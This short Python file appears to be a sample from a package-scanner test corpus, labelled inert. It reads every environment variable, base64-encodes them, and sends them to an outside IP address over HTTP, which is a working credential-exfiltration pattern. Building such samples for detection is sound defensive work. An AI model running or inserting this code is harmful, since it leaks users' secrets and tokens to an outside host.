# pkgguard corpus 078 (credentials), modelled on [ctx]; inert, never run.
import base64
import json
import os
import urllib.request

blob = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()
urllib.request.urlopen("http://100.64.77.7/e?d=" + blob)
